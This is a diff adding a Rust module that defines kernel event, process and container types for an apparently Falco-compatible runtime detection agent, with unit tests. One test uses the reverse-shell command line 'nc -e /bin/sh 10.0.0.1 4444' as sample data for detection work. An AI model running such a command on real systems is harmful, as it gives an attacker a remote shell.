@@ -1,0 +1,422 @@
+//! The event model the matcher reads.
+//!
+//! The agent builds one [`Event`] per kernel record (exec, open, connect, setuid, clone,
+//! exit). Parts shared between many events are reference counted: the process table
+//! holds `Arc<Process>` and the pod/container cache holds `Arc<Container>`, so building
+//! an event is a few pointer copies. Everything the matcher needs is precomputed here
+//! (the command line, the `fd.name` of sockets) so that matching borrows `&str` and
+//! integers and never allocates.
+//!
+//! All types implement `serde::Deserialize` with defaults so rule fixtures can write
+//! events in YAML (see `fixture.rs`).
+
+use std::collections::BTreeMap;
+use std::fmt;
+use std::str::FromStr;
+use std::sync::{Arc, OnceLock};
+
+use serde::Deserialize;
+
+pub use crate::fd::{Fd, FdKind, L4Proto};
+pub use crate::flags::{format_open_flags, parse_open_flags, OPEN_FLAGS, O_ACCMODE};
+
+/// The kinds of event Lanner captures. Display/parse use Falco's names.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
+#[repr(u8)]
+pub enum EvtType {
+    Execve = 0,
+    Openat = 1,
+    Connect = 2,
+    Setuid = 3,
+    Clone = 4,
+    Procexit = 5,
+}
+
+impl EvtType {
+    /// Every captured type, in index order.
+    pub const ALL: [EvtType; 6] = [
+        EvtType::Execve,
+        EvtType::Openat,
+        EvtType::Connect,
+        EvtType::Setuid,
+        EvtType::Clone,
+        EvtType::Procexit,
+    ];
+    /// Number of captured types (size of per-type tables).
+    pub const COUNT: usize = 6;
+
+    /// Falco's canonical name (`evt.type` value).
+    pub fn as_str(self) -> &'static str {
+        match self {
+            EvtType::Execve => "execve",
+            EvtType::Openat => "openat",
+            EvtType::Connect => "connect",
+            EvtType::Setuid => "setuid",
+            EvtType::Clone => "clone",
+            EvtType::Procexit => "procexit",
+        }
+    }
+
+    /// Index into per-type tables.
+    pub fn index(self) -> usize {
+        self as usize
+    }
+
+    /// Parse a Falco event-type name, accepting syscall aliases that Lanner reports under
+    /// one captured type (`open`/`openat2` are reported as `openat`, `execveat` as
+    /// `execve`, `fork`/`vfork`/`clone3` as `clone`). Returns `None` for names Falco
+    /// knows but Lanner does not capture (e.g. `accept`).
+    pub fn from_falco_name(name: &str) -> Option<EvtType> {
+        Some(match name {
+            "execve" | "execveat" => EvtType::Execve,
+            "open" | "openat" | "openat2" => EvtType::Openat,
+            "connect" => EvtType::Connect,
+            "setuid" => EvtType::Setuid,
+            "clone" | "clone3" | "fork" | "vfork" => EvtType::Clone,
+            "procexit" => EvtType::Procexit,
+            _ => return None,
+        })
+    }
+}
+
+impl fmt::Display for EvtType {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(self.as_str())
+    }
+}
+
+/// Error for an event type name that is not captured by Lanner.
+#[derive(Debug, thiserror::Error)]
+#[error("unknown event type '{0}' (expected execve, openat, connect, setuid, clone or procexit)")]
+pub struct UnknownEvtType(pub String);
+
+impl FromStr for EvtType {
+    type Err = UnknownEvtType;
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        EvtType::from_falco_name(s).ok_or_else(|| UnknownEvtType(s.to_string()))
+    }
+}
+
+impl<'de> Deserialize<'de> for EvtType {
+    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
+        let s = String::deserialize(d)?;
+        s.parse().map_err(serde::de::Error::custom)
+    }
+}
+
+/// One kernel event, with the process, its ancestry and container context attached.
+#[derive(Clone, Debug, Deserialize)]
+#[serde(from = "EventSpec")]
+pub struct Event {
+    pub evt_type: EvtType,
+    /// Unix time in nanoseconds.
+    pub time_ns: u64,
+    /// Syscall return value: >= 0 is success, negative is `-errno`.
+    pub res: i64,
+    pub proc: Arc<Process>,
+    /// Ancestors, parent first.
+    pub ancestors: Vec<Arc<Process>>,
+    /// The file or socket the syscall acted on (openat, connect).
+    pub fd: Option<Fd>,
+    /// Target uid of `setuid`.
+    pub setuid_target: Option<u32>,
+    /// `None` for host processes.
+    pub container: Option<Arc<Container>>,
+}
+
+impl Event {
+    /// A minimal event of the given type for `proc`, with no fd, ancestry or container.
+    pub fn new(evt_type: EvtType, time_ns: u64, proc: Arc<Process>) -> Event {
+        Event {
+            evt_type,
+            time_ns,
+            res: 0,
+            proc,
+            ancestors: Vec::new(),
+            fd: None,
+            setuid_target: None,
+            container: None,
+        }
+    }
+
+    /// The parent process, if known.
+    pub fn parent(&self) -> Option<&Process> {
+        self.ancestors.first().map(|p| &**p)
+    }
+}
+
+/// Fixed default time of fixture events: 2026-11-23T12:00:00Z.
+pub const DEFAULT_FIXTURE_TIME_NS: u64 = 1_795_435_200_000_000_000;
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct EventSpec {
+    #[serde(alias = "type", alias = "evt.type")]
+    evt_type: EvtType,
+    #[serde(default = "default_time")]
+    time_ns: u64,
+    #[serde(default)]
+    res: i64,
+    #[serde(default)]
+    proc: Process,
+    #[serde(default)]
+    ancestors: Vec<Process>,
+    #[serde(default)]
+    fd: Option<Fd>,
+    #[serde(default)]
+    setuid_target: Option<u32>,
+    #[serde(default)]
+    container: Option<Container>,
+}
+
+fn default_time() -> u64 {
+    DEFAULT_FIXTURE_TIME_NS
+}
+
+impl From<EventSpec> for Event {
+    fn from(s: EventSpec) -> Event {
+        Event {
+            evt_type: s.evt_type,
+            time_ns: s.time_ns,
+            res: s.res,
+            proc: Arc::new(s.proc),
+            ancestors: s.ancestors.into_iter().map(Arc::new).collect(),
+            fd: s.fd,
+            setuid_target: s.setuid_target,
+            container: s.container.map(Arc::new),
+        }
+    }
+}
+
+/// A process (thread group) as the agent's process table knows it.
+///
+/// Build it with [`Process::new`] (or `Default::default()`) and set the public fields,
+/// then call [`Process::precompute`] before sharing it in an `Arc`: `proc.cmdline` and
+/// `proc.args` are computed once and cached, so change `name`/`args` only before that
+/// (a `clone()` starts with an empty cache).
+#[derive(Clone, Debug, Default, Deserialize)]
+#[serde(from = "ProcessSpec")]
+pub struct Process {
+    pub pid: u32,
+    pub ppid: u32,
+    pub tid: u32,
+    pub uid: u32,
+    pub gid: u32,
+    /// Audit login uid; `None` (or `u32::MAX`) when unset, shown as -1 like Falco.
+    pub loginuid: Option<u32>,
+    pub user_name: Option<String>,
+    /// `comm` / executable base name (`proc.name`).
+    pub name: String,
+    /// Full path of the executable (`proc.exepath`).
+    pub exepath: String,
+    /// `argv[0]` (`proc.exe`).
+    pub exe: String,
+    /// `argv[1..]`.
+    pub args: Vec<String>,
+    /// The agent could not copy every argument.
+    pub args_truncated: bool,
+    /// Controlling terminal device number, 0 when none.
+    pub tty: u32,
+    pub cwd: Option<String>,
+    cache: ProcCache,
+}
+
+/// Strings derived once per process (not per event).
+#[derive(Debug, Default)]
+struct ProcCache {
+    cmdline: OnceLock<Box<str>>,
+    args: OnceLock<Box<str>>,
+}
+
+/// A clone starts with an empty cache: the agent may clone a parent's `Process` and
+/// change its name and arguments for an exec.
+impl Clone for ProcCache {
+    fn clone(&self) -> Self {
+        ProcCache::default()
+    }
+}
+
+impl Process {
+    /// A process with the given name, executable path and arguments; other fields zero.
+    pub fn new(name: &str, exepath: &str, args: &[&str]) -> Process {
+        Process {
+            name: name.to_string(),
+            exepath: exepath.to_string(),
+            exe: if exepath.is_empty() {
+                name.to_string()
+            } else {
+                exepath.to_string()
+            },
+            args: args.iter().map(|a| a.to_string()).collect(),
+            ..Process::default()
+        }
+    }
+
+    /// `proc.cmdline`: `name + " " + args.join(" ")`, computed once per process.
+    pub fn cmdline(&self) -> &str {
+        self.cache.cmdline.get_or_init(|| {
+            let mut s = String::with_capacity(self.name.len() + 1 + self.args().len());
+            s.push_str(&self.name);
+            if !self.args.is_empty() {
+                s.push(' ');
+                s.push_str(self.args());
+            }
+            s.into_boxed_str()
+        })
+    }
+
+    /// `proc.args`: the arguments joined with spaces, computed once per process.
+    pub fn args(&self) -> &str {
+        self.cache
+            .args
+            .get_or_init(|| self.args.join(" ").into_boxed_str())
+    }
+
+    /// Compute the cached strings now, so the first event of this process does not
+    /// allocate on the match path. The agent should call this when it creates a process.
+    pub fn precompute(&self) {
+        let _ = self.cmdline();
+    }
+
+    /// Login uid as Falco shows it: -1 when unset.
+    pub fn loginuid_i64(&self) -> i64 {
+        match self.loginuid {
+            None | Some(u32::MAX) => -1,
+            Some(v) => i64::from(v),
+        }
+    }
+}
+
+#[derive(Deserialize, Default)]
+#[serde(default, deny_unknown_fields)]
+struct ProcessSpec {
+    pid: Option<u32>,
+    ppid: u32,
+    tid: Option<u32>,
+    uid: u32,
+    gid: u32,
+    loginuid: Option<u32>,
+    #[serde(alias = "user")]
+    user_name: Option<String>,
+    name: Option<String>,
+    exepath: Option<String>,
+    exe: Option<String>,
+    args: Vec<String>,
+    args_truncated: bool,
+    tty: u32,
+    cwd: Option<String>,
+}
+
+impl From<ProcessSpec> for Process {
+    fn from(s: ProcessSpec) -> Process {
+        let exepath = s.exepath.unwrap_or_default();
+        let name = s
+            .name
+            .unwrap_or_else(|| exepath.rsplit('/').next().unwrap_or_default().to_string());
+        let exe = s.exe.unwrap_or_else(|| {
+            if exepath.is_empty() {
+                name.clone()
+            } else {
+                exepath.clone()
+            }
+        });
+        let pid = s.pid.unwrap_or(1000);
+        let p = Process {
+            pid,
+            ppid: s.ppid,
+            tid: s.tid.unwrap_or(pid),
+            uid: s.uid,
+            gid: s.gid,
+            loginuid: s.loginuid,
+            user_name: s.user_name,
+            name,
+            exepath,
+            exe,
+            args: s.args,
+            args_truncated: s.args_truncated,
+            tty: s.tty,
+            cwd: s.cwd,
+            cache: ProcCache::default(),
+        };
+        p.precompute();
+        p
+    }
+}
+
+/// A container and, in Kubernetes, its pod.
+#[derive(Clone, Debug, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct Container {
+    /// Full container id (64 hex) or the 12-char short id.
+    pub id: String,
+    pub name: String,
+    #[serde(alias = "image")]
+    pub image_repository: String,
+    pub image_tag: String,
+    pub k8s: Option<Pod>,
+}
+
+impl Container {
+    /// Falco's `container.id`: the first 12 characters of the id.
+    pub fn short_id(&self) -> &str {
+        match self.id.char_indices().nth(12) {
+            Some((i, _)) => &self.id[..i],
+            None => &self.id,
+        }
+    }
+}
+
+/// Pod metadata of a container.
+#[derive(Clone, Debug, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct Pod {
+    #[serde(alias = "namespace")]
+    pub ns: String,
+    pub name: String,
+    pub uid: String,
+    pub labels: BTreeMap<String, String>,
+    pub owner_kind: Option<String>,
+    pub owner_name: Option<String>,
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn cmdline_and_args() {
+        let p = Process::new("nc", "/usr/bin/nc", &["-e", "/bin/sh", "10.0.0.1", "4444"]);
+        assert_eq!(p.cmdline(), "nc -e /bin/sh 10.0.0.1 4444");
+        assert_eq!(p.args(), "-e /bin/sh 10.0.0.1 4444");
+        let q = Process::new("true", "/bin/true", &[]);
+        assert_eq!(q.cmdline(), "true");
+    }
+
+    #[test]
+    fn clone_does_not_keep_a_stale_cmdline() {
+        let parent = Process::new("bash", "/bin/bash", &[]);
+        parent.precompute();
+        let mut child = parent.clone();
+        child.name = "curl".into();
+        child.args = vec!["-s".into(), "x".into()];
+        assert_eq!(child.cmdline(), "curl -s x");
+        assert_eq!(parent.cmdline(), "bash");
+    }
+
+    #[test]
+    fn short_id_and_aliases() {
+        let c = Container {
+            id: "0123456789abcdef0123".into(),
+            ..Default::default()
+        };
+        assert_eq!(c.short_id(), "0123456789ab");
+        assert_eq!(EvtType::from_falco_name("openat2"), Some(EvtType::Openat));
+        assert_eq!(EvtType::from_falco_name("accept"), None);
+        assert!("bogus".parse::<EvtType>().is_err());
+        let p = Process {
+            loginuid: Some(u32::MAX),
+            ..Default::default()
+        };
+        assert_eq!(p.loginuid_i64(), -1);
+    }
+}
